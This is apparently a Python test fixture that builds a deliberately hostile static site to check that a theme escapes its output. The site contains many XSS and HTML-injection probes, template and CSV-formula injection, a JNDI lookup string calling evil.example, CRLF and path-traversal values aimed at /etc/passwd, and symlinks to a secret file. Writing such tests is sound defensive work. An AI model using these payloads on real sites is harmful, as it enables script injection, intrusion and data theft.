"""A site whose every field is hostile; what runs would say so by ``window.__owned``."""

from __future__ import annotations

import json
from pathlib import Path

from tests.theme.sample import make_png

RUN = "window.__owned=1"
PROBES = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'-{RUN}-'",
    f"</title></script></style><svg onload={RUN}>",
    f"{{{{ config }}}}{{% include 'frame.html' %}}${{{RUN}}}<%= {RUN} %>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    '=HYPERLINK("http://evil.example/","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "]]>--><![CDATA[&xxe;",
    "\\u003c/script\\u003e\u2028\u2029",
    "\u202egnp.exe\u2066",
    "a\x00b\x07c\x1b[31md\x85e\ufffe\ufeff",
    "../../../../etc/passwd",
    "%0d%0aSet-Cookie: a=b",
    "${jndi:ldap://evil.example/a}",
    "🏴‍☠️" + "a\u0301" * 3 + "Z" * 300,
)
EVERYTHING = " ".join(PROBES)
LINKS = f"""
[a](javascript:{RUN}) [b](data:text/html;base64,PHNjcmlwdD4=) [c](vbscript:x) [d](//evil.example/x)
[e](JaVaScRiPt:{RUN}) [f](&#106;avascript:{RUN}) [g](https://ok.example/?a=1&b="onclick="{RUN})
[h](java\tscript:{RUN}) <javascript:{RUN}> [i](mailto:a@example.org?subject=x) [j][ref]

[ref]: javascript:{RUN} "onmouseover={RUN}"

![pixel](https://evil.example/pixel.png) ![p](//evil.example/p.png) ![x](x" onerror="{RUN})
[![inside](https://evil.example/in.png)](https://evil.example/)

<a href="javascript:{RUN}" onclick="{RUN}" style="position:fixed;inset:0">x</a>
<iframe src="javascript:{RUN}"></iframe><object data="x.swf"></object><embed src=x>
<form action="https://evil.example/"><input name=q autofocus onfocus="{RUN}"><button formaction=javascript:{RUN}>go</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><style>body{{background:url(https://evil.example/)}}</style>
<svg><script>{RUN}</script><a xlink:href="javascript:{RUN}"><text>x</text></a></svg><math><mtext></p><img src=x onerror={RUN}></math>
<img src="https://evil.example/p.gif" srcset="https://evil.example/p.gif 2x" onerror="{RUN}"><video src=x onerror="{RUN}" autoplay></video>
<p id="filter">x</p><p id="search-form">y</p><p id="comment-1">z</p><p id="main">m</p><details open ontoggle="{RUN}">t</details>
<template><img src=x onerror={RUN}></template><noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>
<a href="&#x6A;avascript:{RUN}">h</a> <!--><img src=x onerror={RUN}>--> <x onclick="{RUN}" contenteditable>y</x>

| = | <script>{RUN}</script> |
| --- | --- |
| `<img src=x onerror={RUN}>` | {{{{ 7*7 }}}} |

```html
<script>{RUN}</script>
```

href="/not-a-link" src="/nor-this"
"""


def text(value: str) -> str:
    """A scalar of YAML that holds exactly this."""
    astral = "".join(
        f"\\U{ord(char):08x}" if ord(char) > 0xFFFF else json.dumps(char)[1:-1] for char in value
    )
    return f'"{astral}"'


def article(number: int, probe: str) -> str:
    quoted = probe.replace("\n", " ")
    return f"""---
title: {text(probe + " " + str(number))}
date: 2026-03-{number + 1:02}
topics: [{text(probe)}, {text(f"Topic {number}")}, "=1+1"]
summary: {text(probe)}
photo:
  file: {text("../../digest.toml" if number % 2 else "/etc/passwd")}
  alt: {text(probe)}
  caption: {text(probe)}
  credit: {text(probe)}
source:
  file: ../../../../etc/passwd
  name: {text(probe)}
  url: {text(f"javascript:{RUN}" if number % 2 else "https://ok.example/" + chr(34) + "><script>" + RUN + "</script>")}
corrections:
  - date: 2026-03-20
    text: {text(probe)}
---

{probe}

{LINKS}

## Key comments

> “{quoted}”
>
> — {quoted.replace(",", " ")}, {quoted} (told {quoted})

{probe}

> {LINKS.strip().splitlines()[0]}
>
> — =cmd|'/C calc'!A0 {{../../escape}}, <b onmouseover={RUN}>role</b>
"""


def write_hostile(folder: Path) -> Path:
    """The site; beside it lies a secret that must not come out."""
    (folder.parent / "secret.md").write_text("TOP-SECRET-OUTSIDE", encoding="utf-8")
    everything = text(EVERYTHING)
    files = {
        "digest.toml": '[site]\ntitle = "A <b>hostile</b> & “quoted” site"\nurl = "https://hostile.example.org/"\n'
        'description = "</script><script>window.__owned=1</script>"\n[cards]\nenabled = true\n'
        '[deploy]\nhosts = ["github-pages", "netlify", "nginx"]\n',
        "content/topics/hostile.md": f"---\nname: {everything}\naliases: [{text(PROBES[1])}]\n---\n\n{LINKS}\n",
        "content/speakers/hostile.md": f"---\nname: {text(PROBES[0])}\nrole: {everything}\nsort: {everything}\n"
        f"links:\n  - label: {everything}\n    url: {text('https://ok.example/' + PROBES[1])}\n---\n\n{LINKS}\n",
        "content/pages/hostile.md": f"---\ntitle: {everything}\nsummary: {everything}\n---\n\n{EVERYTHING}\n\n{LINKS}\n",
        "content/static/evil.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>",
    }
    for number, probe in enumerate(PROBES):
        files[f"content/articles/probe-{number}.md"] = article(number, probe)
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, encoding="utf-8", errors="surrogatepass")
    (folder / "content/static/photo.png").write_bytes(make_png(60, 40))
    for link in ("content/articles/link.md", "content/static/link.txt", "content/pages/link.md"):
        (folder / link).symlink_to(folder.parent / "secret.md")
    (folder / "content/static/up").symlink_to(folder.parent)
    return folder
